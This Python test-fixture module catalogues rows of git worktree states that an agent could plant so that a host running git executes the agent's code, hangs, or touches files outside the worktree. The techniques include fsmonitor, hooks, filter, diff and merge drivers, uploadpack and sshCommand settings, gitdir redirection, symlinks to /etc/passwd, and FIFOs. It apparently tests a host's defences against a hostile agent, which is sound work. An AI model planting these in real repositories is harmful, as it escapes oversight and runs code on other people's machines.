"""Worktrees as an attacker leaves them: rows G1 to G19 of the table, and other ruins.

Each row is a script that an agent runs in its worktree, beside a change that has to survive (`work.txt`).
`$HIT` is a shell command that leaves a mark in the canary directory of the host, where it runs on the host.
`naive` is what a careless host would do there, and how one sees that it was had.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Row:
    """One state of a worktree."""

    name: str
    plant: str
    #: A host command that runs the attacker's code, changes another's files, or hangs.
    naive: str = ""
    #: Rules of the policy that the candidate breaks.
    breaks: frozenset[str] = frozenset()
    #: Whether the change is expected to arrive.
    survives: bool = True

    def __str__(self) -> str:
        return self.name


#: `hit` is an executable inside the worktree that fires whatever its arguments are, and lets data through.
TOOLS = """
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a
printf '#!/bin/sh\\n%s\\ncat 2>/dev/null\\n' "$HIT" > .git/hit; chmod +x .git/hit
hit="$HIT;:"
"""
_ALL_HOOKS = "pre-commit post-index-change reference-transaction pre-push post-checkout commit-msg"

ROWS = (
    Row("G1 fsmonitor in config", 'git config core.fsmonitor "$hit"', "git status"),
    Row(
        "G1 fsmonitor in config.worktree",
        'git config extensions.worktreeConfig true; git config --worktree core.fsmonitor "$hit"',
        "git status",
    ),
    Row(
        "G1 fsmonitor by include.path",
        'git config -f .git/more core.fsmonitor "$hit"; git config include.path more',
        "git diff",
    ),
    Row(
        "G2 hooks",
        f"mkdir -p .git/hooks; for h in {_ALL_HOOKS}; do cp .git/hit .git/hooks/$h; done",
        "git add -A",
    ),
    Row(
        "G2 hooksPath",
        f"mkdir h; for h in {_ALL_HOOKS}; do cp .git/hit h/$h; done; "
        f"git config core.hooksPath h; echo h > .gitignore",
        "git commit -qm x --allow-empty",
    ),
    Row(
        "G3 filter clean",
        'git config filter.any.clean "$HIT; cat"; echo "* filter=any" > .gitattributes; touch README.md',
        "git status",
    ),
    Row(
        "G3 filter process",
        'git config filter.any.process "$hit"; echo "* filter=any" > .gitattributes; touch README.md',
        "git add -A",
    ),
    Row(
        "G4 filter smudge",
        'git config filter.any.smudge "$hit cat"; mkdir -p .git/info; '
        'echo "* filter=any" > .git/info/attributes',
        "rm README.md; git checkout -- README.md",
    ),
    Row("G5 diff.external", 'git config diff.external "$hit"; echo x >> README.md', "git diff"),
    Row(
        "G5 textconv",
        'git config diff.any.textconv "$hit"; echo "* diff=any" > .gitattributes; echo x >> README.md',
        "git diff",
    ),
    Row(
        "G6 merge driver",
        'git config merge.any.driver "$hit false"; echo "* merge=any" > .git/info-attributes; '
        "mkdir -p .git/info;"
        "mv .git/info-attributes .git/info/attributes; git checkout -qb other; echo o > README.md;"
        "git commit -qam o; git checkout -q agent; echo a > README.md; git commit -qam a",
        "git merge other",
    ),
    Row(
        "G7 promisor remote",
        "echo lost > lost; git add lost; git commit -qm lost; b=$(git rev-parse HEAD:lost);"
        "rm -f .git/objects/$(echo $b | cut -c1-2)/$(echo $b | cut -c3-);"
        "git config core.repositoryformatversion 1; git config extensions.partialClone evil;"
        "git config remote.evil.promisor true; git config remote.evil.url .; "
        'git config remote.evil.uploadpack "$hit"',
        "git show HEAD",
    ),
    Row(
        "G8 uploadpack",
        'git config remote.origin.url .; git config remote.origin.uploadpack "$hit"',
        "git fetch origin",
    ),
    Row("G9 sshCommand", 'git config core.sshCommand "$hit"', "git ls-remote ssh://x.invalid/y"),
    Row("G9 insteadOf", "git config url.https://evil.invalid/.insteadOf fd::"),
    Row(
        "G9 pushInsteadOf ext",
        'git config url."ext::sh -c false".pushInsteadOf fd::; git config protocol.allow always',
    ),
    Row(
        "G9 gpg",
        "git config commit.gpgSign true; git config gpg.program .git/hit",
        "git commit -qm x --allow-empty",
    ),
    Row("G10 archive", 'git config tar.evil.command "$hit"', "git archive --format=evil HEAD"),
    Row(
        "G11 nested repository",
        "git init -q nested; cd nested; echo n > n; git add n; git commit -qm n;"
        'git config core.fsmonitor "$hit"; cd ..; git add nested',
        "git status",
        breaks=frozenset({"gitlink"}),
    ),
    Row(
        "G12 .git is a file",
        'mv .git elsewhere; git config -f elsewhere/config core.fsmonitor "$hit"; '
        'echo "gitdir: elsewhere" > .git;'
        "echo elsewhere > .gitignore",
        "git status",
    ),
    Row(
        "G13 commondir",
        'cp -r .git evil; git config -f evil/config core.fsmonitor "$hit"; echo ../evil > .git/commondir;'
        "echo evil > .gitignore",
        "git status",
    ),
    Row(
        "G14 log is a link",
        "rm -rf .git/logs; mkdir .git/logs; ln -s $CANARY/rc .git/logs/HEAD",
        "git commit -qm x --allow-empty",
    ),
    Row("G15 core.worktree", "git config core.worktree $CANARY", "git clean -qfdx"),
    Row(
        "G16 alternates",
        "mkdir -p .git/objects/info; echo $CANARY/other/objects >> .git/objects/info/alternates",
    ),
    Row(
        "G17 worktree backlink",
        "mkdir -p .git/worktrees/x; echo $CANARY/.git > .git/worktrees/x/gitdir; "
        "echo ../.. > .git/worktrees/x/commondir;"
        "echo 'ref: refs/heads/x' > .git/worktrees/x/HEAD",
    ),
    Row("G18 fifo .gitignore", "mkfifo .gitignore", "timeout 1 git status || touch $CANARY/fired"),
    Row(
        "G18 fifo .gitattributes",
        "mkfifo .gitattributes; touch README.md",
        "timeout 1 git add -A || touch $CANARY/fired",
    ),
    Row("G18 fifo index", "rm .git/index; mkfifo .git/index", "timeout 1 git status || touch $CANARY/fired"),
    Row(
        "G18 fifo config", "rm .git/config; mkfifo .git/config", "timeout 1 git status || touch $CANARY/fired"
    ),
    Row("G18 fifo in a directory", "mkdir d; mkfifo d/.gitignore; echo x > d/x"),
    Row("G19 index.lock", "touch .git/index.lock .git/HEAD.lock", "git add -A || touch $CANARY/fired"),
)

RUINS = (
    Row("no .git", "rm -rf .git"),
    Row(".git is a fifo", "rm -rf .git; mkfifo .git"),
    Row(".git leads out", "rm -rf .git; ln -s / .git"),
    Row(".git leads to the canary", "rm -rf .git; ln -s $CANARY .git"),
    Row(".git is text", "rm -rf .git; echo nonsense > .git"),
    Row("config is nonsense", "echo '[[[' > .git/config"),
    Row("unknown extension", "git config core.repositoryformatversion 1; git config extensions.future true"),
    Row("index is nonsense", "echo nonsense > .git/index"),
    Row("HEAD is nonsense", "echo nonsense > .git/HEAD"),
    Row("HEAD leads out", "rm .git/HEAD; ln -s /etc/passwd .git/HEAD"),
    Row("no objects", "rm -rf .git/objects"),
    Row("refs lead out", "rm -rf .git/refs; ln -s /tmp .git/refs"),
    Row(
        "a filter that never ends",
        'git config filter.any.clean "sleep 1000"; echo "* filter=any" > .gitattributes',
    ),
    Row(
        "a filter that never stops",
        'git config filter.any.clean "yes >&2"; echo "* filter=any" > .gitattributes',
    ),
    Row(
        "a filter that fails",
        "git config filter.any.clean false; git config filter.any.required true;"
        'echo "* filter=any" > .gitattributes',
    ),
    Row(
        "a filter that stays",
        'git config filter.any.clean "setsid sleep 1000 & cat"; echo "* filter=any" > .gitattributes',
    ),
    Row("branch locked", "touch .git/refs/heads/agent.lock"),
    Row("a file is a link now", "rm README.md; ln -s $CANARY/rc README.md", breaks=frozenset({"link"})),
    Row("a directory is a link now", "rm -r src; ln -s / src", breaks=frozenset({"link"})),
    Row(
        "deep",
        "i=0; while [ $i -lt 500 ]; do mkdir d && cd d || break; i=$((i+1)); done; echo x > x",
        breaks=frozenset({"size"}),
    ),
    Row("sockets and fifos", "mkfifo fifo; mkdir e"),
    Row("no permissions", "mkdir p; echo x > p/x; chmod 000 p"),
)
